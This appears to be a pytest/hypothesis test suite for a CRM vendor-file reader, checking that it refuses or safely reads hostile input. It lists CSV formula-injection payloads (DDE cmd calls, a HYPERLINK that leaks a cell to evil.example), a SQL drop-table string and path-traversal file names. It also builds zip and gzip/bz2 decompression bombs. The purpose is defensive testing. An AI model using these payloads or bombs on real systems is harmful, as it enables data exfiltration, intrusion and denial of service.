"""Property-based tests of the vendor-file reader on bad input: malformed, truncated, huge, mis-encoded and
hostile files (decompression bombs, CSV formula injection, path traversal in archive members and in the
names an SFTP server lists). Each file is read, or refused with `UnreadableFile` and a reason; each bad
row is an error row naming its line; nothing is ever written outside the file's folder.
(No SFTP, no database; tools/fuzz_readers.py runs the same properties for longer.)"""

from __future__ import annotations

import bz2
import csv
import gzip
import io
import os
import posixpath
import tempfile
import time
import tracemalloc
import zipfile
from types import SimpleNamespace

import pytest
from crm_warehouse.files import readers
from crm_warehouse.files.readers import UnreadableFile, is_safe_name, local_suffix, read_rows
from crm_warehouse.files.sftp import Feed, _free_name, _ready_files
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

FUZZ = settings(max_examples=int(os.environ.get("CRM_FUZZ_EXAMPLES", "150")), deadline=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture])
KEY = "ResponseId"
HOSTILE_CELLS = ["=cmd|' /C calc'!A0", "+SUM(1+1)*cmd|' /C notepad'!A0", "-2+3+cmd|' /C calc'!A0",
                 "@SUM(1+1)", "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "\t=1+1", "\r=1+1",
                 "'; drop table raw.x; --", "\x00", "\ufeff", "\ud7ff\ue000", "a\r\nb", "\"", "\\N", "\\"]
HOSTILE_NAMES = ["../../etc/x", "../x.csv", "/etc/passwd", "..", ".", "a/../../b.csv", "..\\..\\x.csv",
                 "x.csv\x00.txt", "C:\\Windows\\x.csv", "a" * 300 + ".csv", "ok\nname.csv"]

cell = st.one_of(st.text(max_size=40), st.sampled_from(HOSTILE_CELLS))
tables = st.integers(1, 6).flatmap(
    lambda width: st.tuples(
        st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\x00"), min_size=1, max_size=12),
                 min_size=width - 1, max_size=width - 1, unique=True),
        st.lists(st.lists(cell, min_size=width, max_size=width), max_size=12),
    )
)


def csv_text(columns: list[str], rows: list[list[str]], delimiter: str = ",") -> str:
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow([KEY, *columns])
    for i, row in enumerate(rows):
        writer.writerow([f"R_{i}", *row[1:]])
    return buf.getvalue()


def pack(data: bytes, compression: str, member: str = "export.csv") -> bytes:
    if compression == "gzip":
        return gzip.compress(data)
    if compression == "bz2":
        return bz2.compress(data)
    if compression == "zip":
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(member, data)
        return buf.getvalue()
    return data


def snapshot(folder) -> set[str]:
    return {os.path.relpath(os.path.join(d, f), folder) for d, _, files in os.walk(folder) for f in files}


def read_all(path) -> tuple[object, list] | UnreadableFile:
    """The whole outcome of reading a file: (layout, rows) or the UnreadableFile raised. Anything else
    propagates and fails the test (a crash of the run)."""
    try:
        layout, rows = read_rows(path, required_column=KEY)
        return layout, list(rows)
    except UnreadableFile as exc:
        return exc


def check_outcome(outcome, tmp: str, before: set[str]) -> None:
    if isinstance(outcome, UnreadableFile):
        assert str(outcome).strip(), "an unreadable file needs a reason the vendor can act on"
    else:
        layout, rows = outcome
        assert KEY in layout.columns
        for row in rows:
            assert row.line >= 2
            if row.error is not None:
                assert f"line {row.line}" in row.error and row.values is None
            else:
                assert set(row.values) == set(layout.columns)
                assert all(isinstance(v, str) for v in row.values.values())
    assert snapshot(tmp) == before, "reading a file wrote something"


@FUZZ
@given(table=tables, compression=st.sampled_from(["none", "gzip", "bz2", "zip"]),
       encoding=st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "cp1252"]),
       delimiter=st.sampled_from([",", ";", "\t"]))
def test_well_formed_files_round_trip_and_formulas_stay_inert_text(table, compression, encoding, delimiter):
    columns, rows = table
    text = csv_text(columns, rows, delimiter)
    data = text.encode(encoding, errors="replace")
    expected = list(csv.reader(io.StringIO(data.decode(encoding)), delimiter=delimiter))
    with tempfile.TemporaryDirectory() as tmp:
        path = os.path.join(tmp, "f.csv")
        with open(path, "wb") as fh:
            fh.write(pack(data, compression))
        before = snapshot(tmp)
        outcome = read_all(path)
        check_outcome(outcome, tmp, before)
    if isinstance(outcome, UnreadableFile):
        # only a header the reader cannot trust is refused: a delimiter guessed otherwise, or NULs of UTF-16
        # text mistaken for a BOM-less encoding; never a crash
        return
    layout, got = outcome
    if layout.delimiter != delimiter or len(expected) < 2:
        return
    header = [h.strip().lstrip("\ufeff") for h in expected[0]]
    data_rows = [r for r in expected[1:] if r and not (len(r) == 1 and not r[0].strip())]
    good = [r for r in got if r.error is None]
    if layout.header_rows == 1 and len(good) == len(data_rows):
        for row, want in zip(good, data_rows, strict=True):
            assert row.values == dict(zip(header, want, strict=True))  # formulas are kept as inert text


@FUZZ
@given(table=tables, compression=st.sampled_from(["none", "gzip", "bz2", "zip"]),
       cut=st.floats(0, 1), flips=st.lists(st.tuples(st.floats(0, 1), st.integers(0, 255)), max_size=4),
       junk=st.binary(max_size=64), member=st.sampled_from(["export.csv", *HOSTILE_NAMES]))
def test_damaged_files_are_read_or_refused_never_crash(table, compression, cut, flips, junk, member):
    data = bytearray(pack(csv_text(*table).encode("utf-8"), compression, member=member))
    data = data[: int(len(data) * cut) + 1] + junk  # truncated, then garbage appended
    for where, value in flips:  # and a few bytes flipped
        data[min(len(data) - 1, int(len(data) * where))] = value
    with tempfile.TemporaryDirectory() as tmp:
        inner = os.path.join(tmp, "drop")
        os.mkdir(inner)
        path = os.path.join(inner, "f.csv")
        with open(path, "wb") as fh:
            fh.write(bytes(data))
        before = snapshot(tmp)
        check_outcome(read_all(path), tmp, before)


@FUZZ
@given(data=st.binary(max_size=2048))
def test_arbitrary_bytes_are_read_or_refused(data):
    with tempfile.TemporaryDirectory() as tmp:
        path = os.path.join(tmp, "f.csv")
        with open(path, "wb") as fh:
            fh.write(data)
        before = snapshot(tmp)
        check_outcome(read_all(path), tmp, before)


@pytest.mark.parametrize("member", ["../../etc/x", "/etc/passwd", "..\\..\\x.csv", "a/../../../b.csv"])
def test_archive_members_with_traversal_names_are_read_in_memory_never_extracted(tmp_path, member):
    drop = tmp_path / "drop"
    drop.mkdir()
    path = drop / "f.zip"
    path.write_bytes(pack(b"ResponseId,Q1\nR_1,=cmd|' /C calc'!A0\n", "zip", member=member))
    before = snapshot(tmp_path)
    layout, rows = read_all(path)
    assert [r.values for r in rows] == [{"ResponseId": "R_1", "Q1": "=cmd|' /C calc'!A0"}]
    assert snapshot(tmp_path) == before
    assert not (tmp_path / "etc").exists() and not (drop.parent.parent / "b.csv").exists()


def zip_bomb(expanded: int) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open("../../bomb.csv", "w", force_zip64=True) as fh:
            fh.write(b"ResponseId,Q1\n")
            block = b"R_1,0\n" * (1 << 17)
            for _ in range(expanded // len(block)):
                fh.write(block)
    return buf.getvalue()


def test_zip_bomb_is_refused_before_anything_is_decompressed(tmp_path):
    path = tmp_path / "responses.zip"
    path.write_bytes(zip_bomb(128 << 20))  # 128 MiB of rows in ~200 KB
    assert path.stat().st_size < 512 << 10
    started = time.perf_counter()
    with pytest.raises(UnreadableFile, match=r"declares \d+ bytes.*decompression bomb"):
        read_rows(path, required_column=KEY)
    assert time.perf_counter() - started < 1.0


@pytest.mark.parametrize("kind", ["gzip", "bz2"])
def test_stream_bombs_are_refused_with_bounded_memory(tmp_path, kind, monkeypatch):
    monkeypatch.setattr(readers, "EXPANSION_FLOOR", 8 << 20)
    body = b"ResponseId,Q1\n" + b"\0" * (40 << 20)  # 40 MiB in a few dozen KB
    path = tmp_path / f"responses.csv.{kind}"
    path.write_bytes(gzip.compress(body) if kind == "gzip" else bz2.compress(body))
    tracemalloc.start()
    try:
        with pytest.raises(UnreadableFile, match="expands beyond .*decompression bomb"):
            _, rows = read_rows(path, required_column=KEY)
            list(rows)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert peak < 64 << 20, f"reading a bomb took {peak >> 20} MiB"


def test_a_zip_member_that_lies_about_its_size_is_refused(tmp_path):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.csv", b"ResponseId\n" + b"R_1\n" * 100_000)
    data = bytearray(buf.getvalue())
    central = data.find(b"PK\x01\x02")
    data[central + 24: central + 28] = (100).to_bytes(4, "little")  # declared size: 100 bytes
    local = data.find(b"PK\x03\x04")
    data[local + 22: local + 26] = (100).to_bytes(4, "little")
    path = tmp_path / "f.zip"
    path.write_bytes(bytes(data))
    with pytest.raises(UnreadableFile, match="truncated or damaged"):
        _, rows = read_rows(path, required_column=KEY)
        list(rows)


def test_encrypted_zip_is_refused_with_a_reason(tmp_path):
    data = bytearray(pack(b"ResponseId\nR_1\n", "zip"))
    data[6] |= 1  # the "encrypted" flag, in the local header and the central directory
    data[data.find(b"PK\x01\x02") + 8] |= 1
    path = tmp_path / "f.zip"
    path.write_bytes(bytes(data))
    with pytest.raises(UnreadableFile, match="encrypted"):
        read_rows(path, required_column=KEY)


def test_huge_line_and_huge_header_are_refused_quickly(tmp_path, monkeypatch):
    monkeypatch.setattr(readers, "MAX_LINE", 1 << 20)
    long_line = tmp_path / "long.csv"
    long_line.write_bytes(b"ResponseId,Q1\nR_1," + b"x" * (3 << 20) + b"\n")
    with pytest.raises(UnreadableFile, match="line 2 is longer than"):
        _, rows = read_rows(long_line, required_column=KEY)
        list(rows)
    wide = tmp_path / "wide.csv"
    wide.write_bytes(b"ResponseId," + b",".join(b"c%d" % i for i in range(100_000)) + b"\nR_1\n")
    started = time.perf_counter()
    with pytest.raises(UnreadableFile, match="100001 columns"):
        read_rows(wide, required_column=KEY)
    assert time.perf_counter() - started < 2.0  # the duplicate-name check is linear, not quadratic


# --- names listed by an SFTP server -------------------------------------------------------------------

FEED = Feed("survey_vendor", "/survey_vendor/incoming", "/survey_vendor/archive", "/survey_vendor/rejected",
            "sftp_survey_vendor", "responses", KEY)
names = st.one_of(st.sampled_from(HOSTILE_NAMES), st.text(min_size=1, max_size=40),
                  st.text(alphabet="./\\ax\x00", min_size=1, max_size=12))


class ListingOnly:
    """Answers what `_ready_files` and `_free_name` ask of an SFTP session: a listing and stat."""

    def __init__(self, filenames: list[str]) -> None:
        self.filenames = filenames

    def listdir_attr(self, folder: str) -> list:
        return [SimpleNamespace(filename=n, st_mode=0o100644, st_mtime=1, st_size=1) for n in self.filenames]

    def stat(self, path: str) -> None:
        raise FileNotFoundError(path)


@FUZZ
@given(listing=st.lists(names, max_size=8, unique=True))
def test_listed_names_that_are_not_plain_file_names_are_never_read_or_moved(listing):
    stats = {"skipped_temporary": 0, "skipped_unsafe": 0}
    ready = list(_ready_files(ListingOnly(listing), FEED, stats))
    unsafe = [n for n in listing if not is_safe_name(n)]
    assert stats["skipped_unsafe"] == len(unsafe)
    for entry in ready:
        for folder in (FEED.incoming, FEED.archive, FEED.rejected):
            for target in (posixpath.join(folder, entry.filename), _free_name(ListingOnly([]), folder,
                                                                               entry.filename, "ab" * 32)):
                assert posixpath.dirname(posixpath.normpath(target)) == folder, target
        with tempfile.TemporaryDirectory() as tmp:
            with tempfile.NamedTemporaryFile(dir=tmp, prefix="crm_sftp_", suffix=local_suffix(entry.filename)) as fh:
                assert os.path.dirname(fh.name) == tmp and len(os.path.basename(fh.name)) < 100


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_hostile_names_are_refused_or_kept_inside_the_folder(name):
    if is_safe_name(name):
        assert posixpath.dirname(posixpath.join(FEED.archive, name)) == FEED.archive
    else:
        assert "/" in name or name in (".", "..") or "\x00" in name or "\n" in name
    assert "/" not in local_suffix(name) and "\x00" not in local_suffix(name)
